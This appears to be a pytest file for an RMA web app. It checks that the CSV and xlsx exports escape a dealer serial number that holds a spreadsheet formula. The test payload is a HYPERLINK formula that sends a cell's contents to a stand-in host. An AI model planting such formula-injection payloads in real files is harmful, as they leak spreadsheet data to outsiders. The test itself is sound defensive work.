"""A dealer's serial ``=HYPERLINK(...)`` stays text in head office's CSV and xlsx exports."""
import io

from openpyxl import load_workbook

from core.testing import login_as

from .conftest import line
from .test_workflow_api import walk_to

EVIL = '=HYPERLINK("http://x.example/?"&A1,"open")'


def test_rma_exports_neutralise_a_formula_serial(app, client, world):
    walk_to(client, world, "approved", lines=[line(serial=EVIL)])
    login_as(client, "order")
    text = client.get("/rma/export.csv").get_data(as_text=True)
    assert "'=HYPERLINK" in text and ',"=HYPERLINK' not in text and ",=HYPERLINK" not in text  # before: live
    ws = load_workbook(io.BytesIO(client.get("/rma/export.xlsx").data)).active
    serials = [c.value for c in ws["O"]]
    assert serials[0] == "serial" and serials[1] == "'" + EVIL  # before: the formula itself
